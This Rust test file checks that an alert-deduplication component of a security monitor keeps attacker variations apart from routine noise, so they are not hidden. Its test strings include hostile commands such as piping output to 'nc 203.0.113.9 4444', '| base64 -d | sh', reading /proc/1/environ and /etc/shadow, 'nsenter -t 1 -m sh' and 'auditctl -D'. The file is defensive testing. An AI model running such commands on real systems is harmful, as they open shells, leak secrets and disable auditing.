//! For every normalisation: how an attacker would hide inside a noisy group by it, and why that fails.

use super::testing::{alert, at, groups, observe, same};
use super::{Dedup, Joined, Settings, explain};
use crate::alert::{AlertBuilder, Context, Priority, Time};

/// Alerts that differ in these fields only.
fn differ(a: &[(&str, &str)], b: &[(&str, &str)]) -> bool {
    !same(&alert(a), &alert(b))
}

fn commands(a: &str, b: &str) -> bool {
    differ(&[("proc.cmdline", a)], &[("proc.cmdline", b)])
}

fn files(a: &str, b: &str) -> bool {
    differ(&[("fd.name", a)], &[("fd.name", b)])
}

#[test]
fn the_noise_is_one_group_at_all() {
    let noise = alert(&[]);
    for (field, value) in [
        ("proc.pid", "77"),
        ("proc.pname", "<NA>"),
        ("proc.pname", "containerd-shim"),
        ("container.name", "<NA>"),
        ("evt.type", "execveat"),
        ("proc.cmdline", "sh  -c  id"),
        ("container.start_ts", "12"),
        ("evt.time", "1"),
    ] {
        assert!(same(&noise, &alert(&[(field, value)])), "{field}={value}");
    }
}

#[test]
fn parents_a_second_real_parent_is_another_activity() {
    let parent = |name| alert(&[("proc.pname", name)]);
    let numbers = groups(&[parent("<NA>"), parent("nginx"), parent("sshd"), parent("runc"), parent("nginx")]);
    assert_eq!(numbers, [1, 1, 3, 1, 1]);
}

#[test]
fn parents_the_first_real_parent_under_a_noise_of_runc_is_analysed() {
    let mut dedup = Dedup::new(Settings::default());
    let parent = |name| alert(&[("proc.pname", name)]);
    let seen = observe(&mut dedup, &[parent("runc"), parent("runc"), parent("nginx"), parent("nginx")]);
    let variants: Vec<bool> = seen.iter().map(|seen| seen.new_variant).collect();
    assert_eq!(variants, [false, false, true, false]);
    assert!(matches!(seen[2].joined, Joined::Wildcard(_)));
    assert_eq!(seen[2].joined.to_string(), "equal, proc.pname being known on one side only");
}

#[test]
fn parents_a_program_named_like_a_runtime_is_none_outside_its_place() {
    let fake = [("proc.pname", "runc"), ("proc.pexepath", "/tmp/runc"), ("proc.pcmdline", "runc")];
    let nginx = [("proc.pname", "nginx"), ("proc.pexepath", "/usr/sbin/nginx"), ("proc.pcmdline", "nginx")];
    assert!(differ(&fake, &nginx));
    assert!(differ(&[("proc.pname", "systemd")], &[("proc.pname", "nginx")]), "a service's shell is not a server's");
    assert!(differ(&[("proc.aname[2]", "sshd")], &[("proc.aname[2]", "nginx")]));
}

#[test]
fn temporary_names_hide_neither_place_nor_prefix_nor_what_lies_below() {
    assert!(!files("/tmp/job-qX7fLm2P", "/tmp/job-aZ3kQ9xB"));
    for (noise, attack) in [
        ("/tmp/job-qX7fLm2P", "/tmp/evil-aZ3kQ9xB"),
        ("/tmp/job-qX7fLm2P", "/tmp/job-aZ3kQ9xB/x"),
        ("/tmp/job-qX7fLm2P", "/tmp/../etc/job-aZ3kQ9xB"),
        ("/tmp/job-qX7fLm2P", "/tmp/job-aZ3kQ9xB/../../etc/shadow"),
        ("/tmp/job-qX7fLm2P", "/etc/cron.d/job-aZ3kQ9xB"),
        ("/tmp/job-qX7fLm2P", "/tmpx/job-aZ3kQ9xB"),
        ("/tmp/job-qX7fLm2P", "/tmp/job-rootkit"),
        ("/tmp/go-build123456789/b001/exe/main", "/tmp/go-build123456780/b001/exe/xmrig"),
        ("/tmp/qX7fLm2P", "/tmp/kdevtmpfsi"),
        ("/tmp/qX7fLm2P", "/tmp/.qX7fLm2P"),
        ("/var/log/app/access.log.qX7fLm2P", "/var/log/app/auth.log.aZ3kQ9xB"),
        ("/var/log/app/access.log.qX7fLm2P", "/var/log/auth.log"),
        ("/run/0a1b2c3d.pid", "/run/0a1b2c3d.sh"),
        ("/etc/sedAbCdEf", "/etc/ssh/sedAbCdEf"),
        ("/etc/sedAbCdEf", "/etc/shadow"),
        ("/var/lib/postgresql/data/base/16400", "/var/lib/postgresql/data/pg_hba.conf"),
    ] {
        assert!(files(noise, attack), "{noise}\n{attack}");
    }
}

#[test]
fn masks_cannot_be_typed() {
    assert!(files("/tmp/job-qX7fLm2P", "/tmp/job-\u{1}"));
    assert!(files("/tmp/job-qX7fLm2P", "/tmp/job-*"));
    assert!(commands("shred -u /tmp/job-qX7fLm2P", "shred -u /tmp/job-\u{1}"));
    assert!(differ(&[("proc.tty", "34816")], &[("proc.tty", "\u{1}x")]));
}

#[test]
fn what_runs_is_told_by_more_than_a_masked_path() {
    let run = |exe, name| [("proc.exepath", exe), ("proc.name", name)];
    assert!(differ(&run("/tmp/qX7fLm2P", "qX7fLm2P"), &run("/tmp/aZ3kQ9xB", "aZ3kQ9xB")), "the name is not masked");
    assert!(differ(&[("proc.exepath", "/bin/sh")], &[("proc.exepath", "/tmp/.cache/sh")]));
}

#[test]
fn pids_count_where_none_is_meant_and_pid_1_counts_always() {
    assert!(!commands("gdb -p 4711", "gdb -p 4712"));
    for (noise, attack) in [
        ("gdb -p 4711", "gdb -p 1"),
        ("gdb -p 4711", "gdb -p 4712 -batch -ex generate-core-file"),
        ("nsenter -t 4711 -m sh", "nsenter -t 1 -m sh"),
        ("kill -9 4711", "kill -9 -1"),
        ("kill -9 4711", "kill -9 1"),
        ("nc 4711", "nc 4712"),
        ("cat /proc/4711/environ", "cat /proc/1/environ"),
        ("cat /proc/4711/environ", "cat /proc/4711/mem"),
        ("chmod 0755 /x", "chmod 4755 /x"),
        ("tail -n 4711 /x", "tail -n 4712 /x"),
    ] {
        assert!(commands(noise, attack), "{noise}\n{attack}");
    }
    assert!(differ(&[("evt.arg.pid", "4711")], &[("evt.arg.pid", "1")]));
}

#[test]
fn suffixes_of_editors_belong_to_editors_and_to_their_file() {
    let edit = |process, file| [("proc.name", process), ("fd.name", file)];
    assert!(!differ(&edit("vi", "/etc/.sudoers.swp"), &edit("vi", "/etc/.sudoers.swx")));
    assert!(differ(&edit("vi", "/etc/.sudoers.swp"), &edit("vi", "/etc/sudoers")));
    assert!(differ(&edit("vi", "/etc/.sudoers.swp"), &edit("vi", "/etc/.shadow.swp")));
    assert!(differ(&edit("sh", "/etc/.sudoers.swp"), &edit("sh", "/etc/.sudoers.swx")));
    assert!(differ(&edit("dpkg", "/etc/gai.conf.dpkg-new"), &edit("dpkg", "/etc/ld.so.preload.dpkg-new")));
    assert!(differ(&edit("dpkg", "/etc/gai.conf.dpkg-new"), &edit("dpkg", "/etc/gai.conf")));
}

#[test]
fn ports_and_addresses_of_servers_count() {
    let noise = "10.0.0.1:45000->10.0.0.2:443";
    assert!(!files(noise, "10.0.0.1:45001->10.0.0.2:443"));
    for attack in [
        "10.0.0.1:45001->10.0.0.2:4444",
        "10.0.0.1:45001->10.0.0.2:45000",
        "10.0.0.1:45001->203.0.113.9:443",
        "10.0.0.9:45001->10.0.0.2:443",
        "10.0.0.1:53->10.0.0.2:443",
        "10.0.0.2:443->10.0.0.1:45000",
    ] {
        assert!(files(noise, attack), "{attack}");
    }
    let port = |port| [("fd.name", noise), ("fd.rport", port)];
    assert!(differ(&port("443"), &port("4444")));
    assert!(differ(&[("fd.rport", "45000")], &[("fd.rport", "45001")]), "nobody says which side is the client's");
}

#[test]
fn calls_that_do_more_than_another_are_not_its_spelling() {
    let call = |name, file| [("evt.type", name), ("fd.name", file)];
    assert!(!differ(&call("open", "/x"), &call("openat2", "/x")));
    assert!(differ(&call("open", "/x"), &call("unlink", "/x")));
    assert!(differ(&call("connect", "/x"), &call("sendto", "/x")));
    let tcp = |name| [("evt.type", name), ("fd.name", "10.0.0.1:45000->10.0.0.2:53"), ("fd.l4proto", "tcp")];
    assert!(differ(&tcp("connect"), &tcp("sendto")));
}

#[test]
fn a_success_after_denials_is_analysed() {
    let mut dedup = Dedup::new(Settings::default());
    let result = |result| alert(&[("evt.res", result)]);
    let seen = observe(&mut dedup, &[result("EACCES"), result("EACCES"), result("SUCCESS")]);
    assert_eq!(seen.iter().map(|seen| seen.number).collect::<Vec<_>>(), [1, 1, 1]);
    assert_eq!(seen.iter().map(|seen| seen.new_variant).collect::<Vec<_>>(), [false, false, true]);
    assert!(differ(&[("evt.res", "EACCES")], &[("evt.res", "ENOENT")]));
}

#[test]
fn flags_that_tell_a_dropped_or_fileless_program_count() {
    let flags = |flags| [("evt.arg.flags", flags)];
    assert!(!differ(&flags("EXE_WRITABLE"), &flags("EXE_WRITABLE|EXE_LOWER_LAYER")));
    assert!(differ(&flags("EXE_WRITABLE"), &flags("EXE_WRITABLE|EXE_UPPER_LAYER")));
    assert!(differ(&flags("EXE_WRITABLE"), &flags("EXE_WRITABLE|EXE_FROM_MEMFD")));
    assert!(differ(&flags("O_RDONLY"), &flags("O_RDWR")));
}

#[test]
fn a_terminal_is_not_no_terminal() {
    assert!(!differ(&[("proc.tty", "34816")], &[("proc.tty", "34817")]));
    assert!(differ(&[("proc.tty", "0")], &[("proc.tty", "34817")]));
}

#[test]
fn cut_pipelines_lose_text_filters_only() {
    let noise = "sh -c ps aux | grep nginx | wc -l";
    assert!(!commands(noise, "sh -c ps aux | grep nginx"));
    for more in
        [" | sh", " | tee /etc/x", " > /etc/x", " ; id", " && id", " | nc 203.0.113.9 4444", " | base64 -d | sh"]
    {
        assert!(commands(noise, &format!("{noise}{more}")), "{more}");
    }
    assert!(commands(noise, "sh -c ps aux | grep nginx | sort"), "two different filters are two pipelines");
    // The longest pipeline binds: a stub opens, the first full one joins, another full one does not.
    let command = |line| alert(&[("proc.cmdline", line)]);
    let numbers = groups(&[
        command("sh -c ps aux"),
        command("sh -c ps aux | wc -l"),
        command("sh -c ps aux | sort"),
        command("sh -c ps aux"),
    ]);
    assert_eq!(numbers, [1, 1, 3, 1]);
}

#[test]
fn quoting_and_white_space_hide_no_token() {
    assert!(!commands("sh -c  grep  \"x\"  /etc/passwd", "sh -c grep 'x' /etc/passwd"));
    for (noise, attack) in [
        ("sh -c echo 'a;b'", "sh -c echo a;b"),
        ("sh -c echo '$(id)'", "sh -c echo $(id)"),
        ("sh -c ls /x", "sh -c ls /x -R"),
        ("sh -c ls /x", "sh -c ls / x"),
        ("sh -c curl http://a.example/x", "sh -c curl http://b.example/x"),
        ("apt update", "apt install nmap"),
        ("auditctl -l", "auditctl -D"),
        ("sh -c echo cXg3Zkxt | base64 -d", "sh -c echo YVoza1E5 | base64 -d"),
        ("docker exec 185304d1bba4 id", "docker exec 285304d1bba4 id"),
    ] {
        assert!(commands(noise, attack), "{noise}\n{attack}");
    }
}

#[test]
fn the_directory_counts_where_it_may_matter() {
    let cat = |line, directory| [("proc.cmdline", line), ("proc.cwd", directory)];
    assert!(!differ(&cat("cat /etc/hosts", "/"), &cat("cat /etc/hosts", "/home/")));
    assert!(differ(&cat("cat shadow", "/home/"), &cat("cat shadow", "/etc/")));
    assert!(differ(&cat("ls", "/home/"), &cat("ls", "/root/")));
    assert!(!differ(&cat("exe init", "/var/lib/docker/overlay2/1/"), &cat("exe init", "/var/lib/docker/overlay2/2/")));
    assert!(differ(&cat("exe shadow", "/home/"), &cat("exe shadow", "/etc/")), "a program named like a runtime");
}

#[test]
fn arguments_are_left_out_only_where_the_command_line_has_them() {
    let args = |args| [("proc.cmdline", "sh -c id"), ("proc.args", args)];
    assert!(!differ(&args("-c id"), &[("proc.cmdline", "sh -c id")]));
    assert!(differ(&args("-c id"), &args("-c evil")));
    assert!(differ(&args("-c id"), &args("d")));
}

#[test]
fn what_comes_late_may_be_absent_and_not_different() {
    assert!(!differ(&[("container.image.repository", "nginx")], &[("container.image.repository", "<NA>")]));
    assert!(differ(&[("container.image.repository", "nginx")], &[("container.image.repository", "evil")]));
    assert!(differ(&[("container.id", "185304d1bba4")], &[("container.id", "285304d1bba4")]));
    assert!(differ(&[("container.id", "185304d1bba4")], &[("container.id", "<NA>")]));
    assert!(differ(&[("container.id", "185304d1bba4")], &[("container.id", "host")]));
}

#[test]
fn a_field_that_no_table_knows_counts() {
    assert!(differ(&[("new.field", "1")], &[("new.field", "2")]));
    assert!(differ(&[("new.field", "1")], &[]));
}

#[test]
fn text_alerts_count_whole_so_that_an_argument_cannot_play_a_field() {
    let text = |text: &str| {
        let builder = AlertBuilder::new().rule("Shell").time(Time::from_nanos(1)).priority(Priority::Notice);
        builder.hostname("n").output(format!("13:41:35.792272681: Notice {text}")).build().unwrap()
    };
    let noise = text("Shell (user=root command=sh -c id parent=runc pid=77)");
    assert!(noise.fields_inferred());
    assert!(same(&noise, &text("Shell (user=root command=sh -c id parent=runc pid=78)")));
    for attack in [
        "Shell (user=root command=sh -c id parent=nginx pid=78)",
        "Shell (user=root command=sh -c id parent=runc pid=1)",
        "Shell (user=root command=sh -c id user=x parent=runc pid=78)",
        "Shell (user=root command=sh -c evil parent=runc parent=runc pid=78)",
    ] {
        assert!(!same(&noise, &text(attack)), "{attack}");
    }
    assert!(same(&text("Sent to 10.0.0.1:45000->10.0.0.2:53"), &text("Sent to 10.0.0.1:45001->10.0.0.2:53")));
    assert!(!same(&text("Sent to 10.0.0.1:45000->10.0.0.2:53"), &text("Sent to 10.0.0.1:45000->10.0.0.2:54")));
}

#[test]
fn padding_beyond_what_is_kept_still_counts() {
    let long = |tail: &str| format!("sh -c id #{}{tail}", "x".repeat(40_000));
    assert!(commands(&long("; curl http://a.example"), &long("; curl http://b.example")));
}

#[test]
fn an_ended_window_swallows_nothing() {
    let numbers = groups(&[at(0, &[]), at(599, &[]), at(1_199, &[]), at(1_801, &[])]);
    assert_eq!(numbers, [1, 1, 1, 4]);
}

#[test]
fn a_full_table_suppresses_nothing() {
    let mut dedup = Dedup::new(Settings { max_groups: 10, ..Settings::default() });
    let mut alerts = vec![at(0, &[])];
    alerts.extend((0..50).map(|n| at(1, &[("fd.name", &format!("/opt/{n}"))])));
    alerts.push(at(2, &[]));
    let seen = observe(&mut dedup, &alerts);
    assert!(seen.iter().all(|seen| seen.decision == super::Decision::Opened));
    assert_eq!(seen.iter().map(|seen| seen.evicted.len()).sum::<usize>(), 42);
    assert_eq!((dedup.stats().live, dedup.stats().evicted), (10, 42));
}

#[test]
fn groups_that_differ_in_wildcards_only_can_be_many() {
    let mut dedup = Dedup::new(Settings::default());
    let parents: Vec<_> = (0..500).map(|n| alert(&[("proc.pname", &format!("nginx{n}"))])).collect();
    let both: Vec<_> = parents.iter().chain(&parents).cloned().collect();
    let numbers: Vec<_> = observe(&mut dedup, &both).iter().map(|seen| seen.number).collect();
    assert_eq!(numbers[..500], numbers[500..]);
    assert_eq!(dedup.stats().live, 500);
}

#[test]
fn a_flood_of_new_groups_is_itself_an_alert_once() {
    let mut dedup = Dedup::new(Settings { flood_groups: 20, ..Settings::default() });
    let alerts: Vec<_> = (0..100).map(|n| at(n, &[("fd.name", &format!("/opt/{n}"))])).collect();
    let notices: Vec<_> = observe(&mut dedup, &alerts).into_iter().filter_map(|seen| seen.notice).collect();
    assert_eq!(notices.len(), 1);
    assert_eq!(notices[0].field("container.id"), Some("185304d1bba4"));
    assert_eq!(notices[0].field("lanner.groups"), Some("20"));
    assert!(notices[0].source() == "lanner" && !notices[0].fields_inferred());
}

#[test]
fn an_explanation_names_field_and_rule() {
    let (a, b) = (alert(&[("fd.name", "/etc/shadow")]), alert(&[("fd.name", "/etc/sudoers"), ("proc.pid", "1")]));
    let explained = explain(&Settings::default(), &a, &Context::default(), &b, &Context::default());
    assert!(!explained.same);
    let fields: Vec<_> = explained.reasons.iter().map(|reason| (reason.field.as_str(), reason.splits)).collect();
    assert_eq!(fields, [("fd.name", true), ("proc.pid", false)]);
    assert_eq!(explained.reasons[0].value_b.as_deref(), Some("/etc/sudoers"));
}
